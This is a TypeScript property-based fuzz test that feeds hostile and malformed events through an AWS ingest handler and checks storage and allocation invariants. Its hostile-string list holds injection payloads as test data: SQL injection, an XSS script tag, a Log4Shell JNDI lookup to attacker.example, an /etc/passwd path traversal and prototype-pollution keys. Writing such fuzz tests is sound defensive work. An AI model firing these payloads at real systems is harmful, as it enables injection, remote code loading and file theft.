/**
 * Hostile and malformed input, fuzzed with fast-check through the ingest handler (normalizer, stores on
 * DynamoDB Local, reconcile, executors over the mocked SDK), not only through `normalize`
 * (test/unit/ingest/normalize.fuzz.test.ts covers the pure function). Whatever arrives:
 *   - the handler returns a summary, or throws PoisonEventError (the event goes to the DLQ) — nothing else;
 *   - a poison event writes nothing anywhere;
 *   - the drivers table only ever holds items that parse with driverSchema, and never part of a driver: a
 *     stored driver listing several targets is stored (at least as new) for every one of them;
 *   - every recorded decision parses and allocates within its target's bounds, and so does every resource.
 */
import fc from 'fast-check';
import { ScanCommand } from '@aws-sdk/lib-dynamodb';
import { decisionRecordSchema } from '../../functions/adapters/dynamodb/decision-store';
import { driverSchema, type Target } from '../../functions/domain/model';
import { PoisonEventError, type IngestSummary } from '../../functions/handlers/ingest';
import { createHarness, fixture, type Harness } from '../handlers/harness';
import { T0, alarmEvent, AwsFaults, cloudWatchTime, demandEvent, isoZ, metricEvent, overrideEvent } from './support';
import { mutate, paths } from '../support/json-mutation';
import type { LooseJson } from '../support/loose-json';

/** HANDLER_FUZZ_RUNS=2000 for a deeper search than the CI run. */
const RUNS = Number(process.env.HANDLER_FUZZ_RUNS ?? 150);

type Json = LooseJson;

/** Valid events of every channel and detail-type, dated `at`: the fuzzer mutates these. */
function validEvents(at: number): Json[] {
  const lambdaAction = fixture<Json>('lambda-alarm-action-metric');
  lambdaAction.time = cloudWatchTime(at);
  lambdaAction.alarmData.state.timestamp = cloudWatchTime(at);
  const sns = fixture<Json>('sns-alarm-single-metric');
  const message = JSON.parse(sns.Records[0].Sns.Message);
  message.StateChangeTime = cloudWatchTime(at);
  sns.Records[0].Sns.Message = JSON.stringify(message);
  sns.Records[0].Sns.Timestamp = isoZ(at);
  const budget = fixture<Json>('business-driver-budget');
  budget.time = isoZ(at);
  budget.detail.signal = { type: 'budget', maxHourlyCost: 1.5, windowStart: at - 60, windowEnd: at + 86400 };
  const freeze = fixture<Json>('business-driver-freeze');
  freeze.time = isoZ(at);
  freeze.detail.signal = { type: 'freeze', windowStart: at - 60, windowEnd: at + 3600 };
  return [
    alarmEvent({ id: 'fz-alarm', at, state: 'ALARM' }),
    alarmEvent({ id: 'fz-composite', at, state: 'ALARM', alarmName: 'ServiceAggregatedAlarm' }),
    lambdaAction,
    sns,
    metricEvent({ id: 'fz-metric', at, value: 5000 }),
    demandEvent({
      id: 'fz-sale',
      at,
      campaign: 'fz',
      demand: { multiplier: 3 },
      windowStart: at - 60,
      windowEnd: at + 3600,
    }),
    budget,
    freeze,
    overrideEvent({ id: 'fz-pin', at, targets: ['web-asg', 'checkout-fn'], action: 'pin', allocation: 30 }),
    overrideEvent({
      id: 'fz-weights',
      at,
      targets: ['api-routing'],
      action: 'pin-weights',
      weights: { 'us-east-1': 10, 'eu-west-1': 90 },
    }),
    overrideEvent({ id: 'fz-freeze', at, targets: ['web-asg', 'checkout-fn', 'api-routing'], action: 'freeze' }),
  ];
}

const hostileString = fc.oneof(
  fc.constantFrom(
    '',
    ' ',
    '\u0000',
    '\n{"level":"ERROR","message":"forged log line"}',
    '\u001b[2J\u001b[31mALARM',
    "web-asg'; DROP TABLE drivers; --",
    '<script>alert(1)</script>',
    '${jndi:ldap://attacker.example/a}',
    '__proto__',
    'constructor',
    '../../etc/passwd',
    'web-asg#override#x',
    'arn:aws:iam::111122223333:role/oncall-*',
    'arn:aws:iam::999999999999:role/oncall-mallory',
    'aws.cloudwatch',
    'com.example.untrusted',
    '9999-12-31T23:59:59Z',
    'NaN',
    '🔥'.repeat(2000),
  ),
  // Oversized: EventBridge caps an event at 256 KB, a direct invocation at 6 MB.
  fc.constantFrom('x'.repeat(300_000), 'A'.repeat(1_000_000)),
  fc.string({ maxLength: 40 }),
);

const hostileNumber = fc.oneof(
  fc.constantFrom(
    Number.NaN,
    Infinity,
    -Infinity,
    -0,
    -1,
    -250,
    1e308,
    -1e308,
    Number.MAX_SAFE_INTEGER,
    2 ** 53 + 1,
    2 ** 53 + 2,
    1.2e16,
    1e11,
    1e-131,
    5e-324,
    1_000_000,
    1_000_001,
    0.5,
  ),
  fc.double(),
  fc.integer({ min: -1e9, max: 1e9 }),
);

const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  hostileString,
  hostileNumber,
  fc.constantFrom(null, true, false, [], {}, [[[[[[[[[[]]]]]]]]]], { __proto__: { polluted: true } }, { $ref: '#' }),
  fc.jsonValue({ maxDepth: 3 }),
  fc.array(hostileString, { maxLength: 3 }),
);

type Recipe =
  | { kind: 'json'; value: unknown }
  | { kind: 'mutated'; base: number; edits: Array<[number, unknown]> }
  | { kind: 'sns-batch'; copies: number };

const recipe: fc.Arbitrary<Recipe> = fc.oneof(
  {
    arbitrary: fc.record({
      kind: fc.constant('json' as const),
      value: fc.oneof(fc.jsonValue({ maxDepth: 4 }), hostileValue),
    }),
    weight: 1,
  },
  {
    arbitrary: fc.record({
      kind: fc.constant('mutated' as const),
      base: fc.nat({ max: 10 }),
      edits: fc.array(fc.tuple(fc.nat(), fc.oneof(hostileValue, fc.constant(undefined))), {
        minLength: 0,
        maxLength: 3,
      }),
    }),
    weight: 8,
  },
  {
    arbitrary: fc.record({ kind: fc.constant('sns-batch' as const), copies: fc.constantFrom(2, 100, 101, 5000) }),
    weight: 1,
  },
);

function build(r: Recipe, at: number): unknown {
  if (r.kind === 'json') return r.value;
  const bases = validEvents(at);
  if (r.kind === 'sns-batch') {
    const sns = bases[3]!;
    return { Records: Array.from({ length: r.copies }, () => sns.Records[0]) };
  }
  let event: unknown = bases[r.base % bases.length];
  for (const [choice, value] of r.edits) {
    const all = paths(event);
    event = mutate(event, all[choice % all.length]!, value);
  }
  return event;
}

async function scan(
  h: Harness,
  table: 'drivers' | 'decisions' | 'state' | 'idempotency',
): Promise<Record<string, unknown>[]> {
  const items: Record<string, unknown>[] = [];
  let ExclusiveStartKey: Record<string, unknown> | undefined;
  do {
    const page = await h.local.doc.send(new ScanCommand({ TableName: h.local.names[table], ExclusiveStartKey }));
    items.push(...(page.Items ?? []));
    ExclusiveStartKey = page.LastEvaluatedKey;
  } while (ExclusiveStartKey);
  return items;
}

function withinBounds(target: Target, desired: unknown): string | undefined {
  const d = desired as { kind: string; desired?: number; floor?: number; weights?: Record<string, number> };
  const { min, max } = target.policy.bounds;
  if (target.resource.kind === 'route53-weighted') {
    const ids = target.resource.endpoints.map((e) => e.setIdentifier).sort();
    const weights = d.weights ?? {};
    const values = Object.values(weights);
    if (d.kind !== 'weights' || JSON.stringify(Object.keys(weights).sort()) !== JSON.stringify(ids))
      return `weights for other endpoints: ${JSON.stringify(d)}`;
    if (values.some((w) => !Number.isInteger(w) || w < 0 || w > 255))
      return `weight outside 0..255: ${JSON.stringify(d)}`;
    return undefined;
  }
  if (d.kind !== 'capacity' || !Number.isInteger(d.desired) || !Number.isInteger(d.floor))
    return `not a whole capacity: ${JSON.stringify(d)}`;
  if (d.desired! < min || d.desired! > max) return `desired ${d.desired} outside ${min}..${max}`;
  if (d.floor! < 0 || d.floor! > d.desired!) return `floor ${d.floor} outside 0..${d.desired}`;
  return undefined;
}

/**
 * What one event may cost at most: idempotency (2), the driver put (1) and, per target it drives (the harness
 * config has 3), state + drivers + record + mark and the retries of a lost race (≤ 3 decide attempts of ~5
 * requests). Ten times that per target leaves room for every legitimate path and still catches a loop.
 */
const MAX_DYNAMODB_REQUESTS_PER_EVENT = 2 + 1 + 3 * 3 * 5 * 10;

describe('hostile input through the ingest handler (fast-check)', () => {
  let h: Harness;
  let faults: AwsFaults;
  beforeAll(async () => {
    h = await createHarness({ now: T0 });
    faults = new AwsFaults(h);
  });
  afterAll(() => {
    faults.close();
    h.close();
  });

  it(
    'never throws anything but PoisonEventError, never half-stores, never allocates outside bounds',
    async () => {
      // Every DynamoDB request the handler makes (stores and idempotency share the harness's client).
      const dynamoRequests = { count: 0 };
      h.local.client.middlewareStack.add(
        (next) => async (args) => {
          dynamoRequests.count++;
          return next(args);
        },
        { step: 'initialize', name: 'hostileInputRequestCounter' },
      );
      const targets = new Map(h.config.targets.map((target) => [target.id, target]));
      let runs = 0;
      const outcomes = { summaries: 0, poison: 0, accepted: 0, recorded: 0 };
      await fc.assert(
        fc.asyncProperty(recipe, fc.nat({ max: 120 }), async (r, advance) => {
          // The clock only moves forward, a little per event: cooldowns, windows and expiries all come into play.
          h.now.value += advance;
          const event = build(r, h.now.value - 5);
          const before = await Promise.all(
            (['drivers', 'decisions', 'state', 'idempotency'] as const).map((table) => scan(h, table)),
          );
          const requestsBefore = dynamoRequests.count;
          let summary: IngestSummary | undefined;
          try {
            summary = (await h.ingest(event)) as IngestSummary;
            outcomes.summaries++;
            outcomes.accepted += summary.accepted;
            outcomes.recorded += summary.reconciled.filter((x) => x.outcome === 'recorded').length;
          } catch (error) {
            if (!(error instanceof PoisonEventError))
              throw new Error(`ingest threw ${(error as Error)?.name}: ${(error as Error)?.message}`.slice(0, 2000));
            outcomes.poison++;
            const after = await Promise.all(
              (['drivers', 'decisions', 'state', 'idempotency'] as const).map((table) => scan(h, table)),
            );
            expect(after.map((items) => items.length)).toEqual(before.map((items) => items.length));
          }
          // Megabyte payloads included, one event is a few DynamoDB round trips per target it touches, never a
          // loop: bounded by work (requests), not by the wall clock of a busy machine.
          expect(dynamoRequests.count - requestsBefore).toBeLessThanOrEqual(MAX_DYNAMODB_REQUESTS_PER_EVENT);
          runs++;

          const drivers = await scan(h, 'drivers');
          const byKey = new Map<string, { observedAt: number }>();
          for (const item of drivers) {
            const parsed = driverSchema.safeParse(item);
            if (!parsed.success)
              throw new Error(`unparsable driver item ${JSON.stringify(item).slice(0, 500)}: ${parsed.error.message}`);
            expect(parsed.data.targets).toContain(item.targetId);
            byKey.set(`${item.targetId as string}|${item.driverKey as string}`, parsed.data);
          }
          for (const item of drivers) {
            const driver = driverSchema.parse(item);
            for (const other of driver.targets) {
              const sibling = byKey.get(`${other}|${item.driverKey as string}`);
              if (!sibling || sibling.observedAt < driver.observedAt)
                throw new Error(
                  `driver ${item.driverKey as string} for ${driver.targets.join(',')} is missing (or older) on ${other}`,
                );
            }
          }
          for (const item of await scan(h, 'decisions')) {
            const record = decisionRecordSchema.parse(item);
            const problem = withinBounds(targets.get(record.targetId)!, record.desired);
            if (problem) throw new Error(`${record.decisionId}: ${problem}`);
          }
          for (const [id, resource] of [
            ['web-asg', faults.allocationOf('web-asg')],
            ['checkout-fn', faults.allocationOf('checkout-fn')],
          ] as const) {
            const target = targets.get(id)!;
            // The resource starts inside bounds and may sit at 0 before anything was applied (no PC config).
            if (faults.writesOf(id).length > 0) expect(withinBounds(target, resource)).toBeUndefined();
          }
          expect(withinBounds(targets.get('api-routing')!, faults.allocationOf('api-routing'))).toBeUndefined();
        }),
        { numRuns: RUNS },
      );
      if (process.env.FUZZ_DEBUG) process.stderr.write(`${JSON.stringify(outcomes)}\n`);
      expect(runs).toBeGreaterThanOrEqual(RUNS);
      // The property above proves little unless hostile input also reached the paths that store and decide.
      expect(outcomes.poison).toBeGreaterThan(0);
      expect(outcomes.accepted).toBeGreaterThan(RUNS / 10);
      expect(outcomes.recorded).toBeGreaterThan(RUNS / 20);
      expect(dynamoRequests.count).toBeGreaterThan(RUNS); // the counter sees the handler's requests
    },
    30_000 + RUNS * 200,
  );
});
